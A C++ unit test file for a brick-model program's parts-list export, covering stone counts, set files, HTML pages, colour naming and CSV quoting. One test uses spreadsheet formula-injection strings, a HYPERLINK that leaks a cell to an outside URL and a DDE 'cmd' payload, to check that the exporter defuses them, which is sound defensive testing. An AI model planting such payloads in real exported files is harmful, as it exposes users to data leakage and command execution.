// The parts list of a model: its rows against a count made straight from the
// model file's lines, the names the palette and the swatches give, and the
// three files it is saved as.

#include <gtest/gtest.h>

#include <map>
#include <sstream>

#include "app/stonemill_app.h"
#include "common/strings.h"
#include "export/parts_list_files.h"
#include "files/caption_rule.h"
#include "files/set_file.h"
#include "files/settings_file.h"
#include "model/block.h"
#include "temp_program_folder.h"
#include "test_stones.h"

namespace fs = std::filesystem;

namespace {

// Counts by "kind letter (or the part name of a general stone) and colour",
// read from the stone lines of a model file without the program's reader.
std::map<std::string, int64_t> CountLines(const fs::path& model) {
    std::map<std::string, int64_t> counts;
    for (const std::string& line : LoadLines(model)) {
        if (line.empty() || line[0] == '=' || Trim(line).empty())
            continue;
        std::istringstream fields(line.substr(1));
        std::vector<std::string> f;
        for (std::string field; fields >> field;)
            f.push_back(field);
        // x y z length width height colour tag baseplate turn transparent [file part]
        const std::string what = line[0] == 'G' ? "G " + LowerCase(f.at(12)) : std::string(1, line[0]);
        ++counts[what + " " + f.at(6) + (f.at(10) == "1" ? " see-through" : "")];
    }
    return counts;
}

std::map<std::string, int64_t> CountRows(const TPartsList& list) {
    std::map<std::string, int64_t> counts;
    for (const TPartsRow& row : list.Rows) {
        const TBlock& stone = *row.Example;
        const std::string what = stone.Kind == 'G' ? "G " + LowerCase(row.Part) : std::string(1, stone.Kind);
        counts[what + " " + std::to_string(stone.Color) + (row.Transparent ? " see-through" : "")] +=
            row.Count;
    }
    return counts;
}

size_t Occurrences(const std::string& text, const std::string& part) {
    size_t count = 0;
    for (size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + 1))
        ++count;
    return count;
}

} // namespace

TEST(PartsList, ShippedModelsCountAsTheirLinesAndTheSetFileSuppliesThemExactly) {
    TTempProgramFolder folder;
    folder.CopyShippedParts();
    for (const char* name : {"house.stm", "church.stm", "station.stm"}) {
        SCOPED_TRACE(name);
        const fs::path model = SourceFolder() / "data" / "Models" / name;
        TStonemillApp app(folder.Path());
        const TSettingsData settings = ReadSettingsFile(SourceFolder() / "data" / "Stonemill.ini");
        app.Palette.Load(settings);
        app.Files.LoadModel(model, TLoadMode::lmComplete);
        const TPartsList list = app.Parts.Make();

        const std::map<std::string, int64_t> lines = CountLines(model);
        int64_t stoneLines = 0;
        for (const auto& [key, count] : lines)
            stoneLines += count;
        EXPECT_EQ(list.Stones, stoneLines);
        EXPECT_EQ(CountRows(list), lines);
        for (size_t i = 1; i < list.Rows.size(); ++i)
            EXPECT_LE(CompareText(list.Rows[i - 1].Name, list.Rows[i].Name), 0);

        // The set file, read by the program's own reader and loaded as the
        // supply of the model, leaves nothing over and nothing missing.
        const fs::path set = folder.Path() / "model.SET";
        app.Parts.Save(list, set);
        const TSetList read = ReadSetFile(set);
        std::map<std::string, int64_t> expected;
        for (const TBlock* stone : app.Document.Model().Stones())
            ++expected[LowerCase(CaptionOf(stone->Caption))];
        ASSERT_EQ(read.size(), expected.size());
        for (const auto& [caption, count] : read)
            EXPECT_EQ(count, expected[LowerCase(caption)]) << caption;
        TStoneSupply supply;
        supply.Load(read, app.Document.Model());
        for (const auto& [caption, count] : supply.Set())
            EXPECT_EQ(count, 0) << caption;

        // The web page carries one picture per row, each a PNG the renderer drew.
        const fs::path page = folder.Path() / "model.Html";
        app.Parts.Save(list, page);
        const std::string html = folder.ReadFile(page);
        EXPECT_EQ(Occurrences(html, "<img alt=\"\" src=\"data:image/png;base64,iVBORw0KGgo"),
                  list.Rows.size());
        EXPECT_NE(html.find("Total: " + std::to_string(list.Stones) + " stones in " +
                            std::to_string(list.Rows.size()) + " kinds"),
                  std::string::npos);
        EXPECT_NE(html.find("Parts list of " + std::string(name)), std::string::npos);
    }
}

TEST(PartsList, NamesComeFromThePaletteAndTheSwatchesAndTheCsvQuotesWhatItMust) {
    TPartsNaming naming;
    naming.AddEntry("2x4x3|Brick 2x4");
    naming.AddEntry("G parts.dat, arch|Arch");
    std::vector<std::unique_ptr<TBlock>> stones;
    auto add = [&](char kind, int32_t length, int32_t width, TColor color, bool transparent,
                   const std::string& caption) {
        stones.push_back(StoneInUnits(kind, 0, 0, 0, length, width, 20, color));
        stones.back()->Transparent = transparent;
        stones.back()->Caption = caption;
    };
    const TColor red = kDefaultSwatchColors[0];
    add('B', 40, 80, red, false, "2x4x3");
    add('B', 80, 40, red, false, "2x4x3"); // the same stone turned
    add('B', 40, 80, red, true, "2x4x3");
    add('B', 40, 80, RGB(1, 2, 3), false, "2X4X3"); // captions count without regard to letter case
    add('B', 40, 80, red, false, "");               // its caption from its kind and size
    add('B', 80, 40, red, false, "4x2x3");          // read from a file, turned by its size: the same stone
    add('R', 20, 20, kDefaultSwatchColors[1], false, "Tower, \"big\"");
    std::vector<const TBlock*> pointers;
    for (const auto& stone : stones)
        pointers.push_back(stone.get());

    const TPartsList list = MakePartsList(pointers, naming);
    ASSERT_EQ(list.Rows.size(), 4u);
    EXPECT_EQ(list.Stones, 7);
    EXPECT_EQ(list.Rows[0].Name, "Brick 2x4");
    EXPECT_EQ(list.Rows[0].ColorName, "#010203");
    EXPECT_EQ(list.Rows[0].Count, 1);
    EXPECT_EQ(list.Rows[1].ColorName, "Red");
    EXPECT_EQ(list.Rows[1].Count, 4);
    EXPECT_EQ(list.Rows[2].ColorName, "Red, see-through");
    EXPECT_EQ(list.Rows[3].Name, "Tower, \"big\"");
    EXPECT_EQ(list.Rows[3].ColorName, "White");

    // A swatch given another colour has no name: the colour is told in hexadecimal.
    naming.Swatches[0] = RGB(9, 9, 9);
    EXPECT_EQ(MakePartsList(pointers, naming).Rows[1].ColorName, "#F40000");

    EXPECT_EQ(PartsCsvText(list), "Name,Part,Colour,Count\r\n"
                                  "Brick 2x4,2x4x3,#010203,1\r\n"
                                  "Brick 2x4,2x4x3,Red,4\r\n"
                                  "Brick 2x4,2x4x3,\"Red, see-through\",1\r\n"
                                  "\"Tower, \"\"big\"\"\",\"Tower, \"\"big\"\"\",White,1\r\n"
                                  "Total: 7 stones in 4 kinds,,,7\r\n");
    // A cell a spreadsheet would run as a formula is kept as text; bytes
    // that are not UTF-8 are read as Latin-1.
    TPartsList hostile;
    hostile.Stones = 4;
    for (const char* name : {"=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"})
        hostile.Rows.push_back({name, "caf\xE9", 0, false, "Red", 1, nullptr});
    EXPECT_EQ(PartsCsvText(hostile), "Name,Part,Colour,Count\r\n"
                                     "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",caf\xC3\xA9,Red,1\r\n"
                                     "\"'+1+cmd|' /C calc'!A0\",caf\xC3\xA9,Red,1\r\n"
                                     "\"'-2+3\",caf\xC3\xA9,Red,1\r\n"
                                     "\"'@SUM(1)\",caf\xC3\xA9,Red,1\r\n"
                                     "Total: 4 stones in 4 kinds,,,4\r\n");
    // The set counts each caption as the supply does: a stone under its own
    // caption (not turned about), up to its first comma (the caption rule).
    EXPECT_EQ(PartsSetText(list), "\"big\", 1\n2x4x3, 5\n4x2x3, 1\n");
    EXPECT_NE(ErrorOf([] { PartsFormatOf("list.txt"); }).find(".csv"), std::string::npos);

    // Stones of parts of a module, which the caption rule cuts down to "0x2x1",
    // keep their sizes apart: a sleeper of half a module is not one of three quarters.
    std::vector<std::unique_ptr<TBlock>> thin;
    thin.push_back(StoneInUnits('B', 0, 0, 0, 10, 40, 6, clRed));
    thin.push_back(StoneInUnits('B', 0, 0, 0, 40, 10, 6, clRed));
    thin.push_back(StoneInUnits('B', 0, 0, 0, 15, 40, 6, clRed));
    thin.push_back(StoneInUnits('T', 0, 0, 0, 40, 40, 10, clRed));
    std::vector<const TBlock*> thinPointers;
    for (const auto& stone : thin) {
        stone->Caption = StoneCaption(*stone); // as a file's stones carry it
        thinPointers.push_back(stone.get());
    }
    const TPartsList sleepers = MakePartsList(thinPointers, naming);
    ASSERT_EQ(sleepers.Rows.size(), 3u);
    EXPECT_EQ(sleepers.Rows[0].Name, "0.50x2x1");
    EXPECT_EQ(sleepers.Rows[0].Count, 2);
    EXPECT_EQ(sleepers.Rows[0].Part, "0x2x1");
    EXPECT_EQ(sleepers.Rows[1].Name, "0.75x2x1");
    EXPECT_EQ(sleepers.Rows[2].Name, "T2x2x1.50");
}
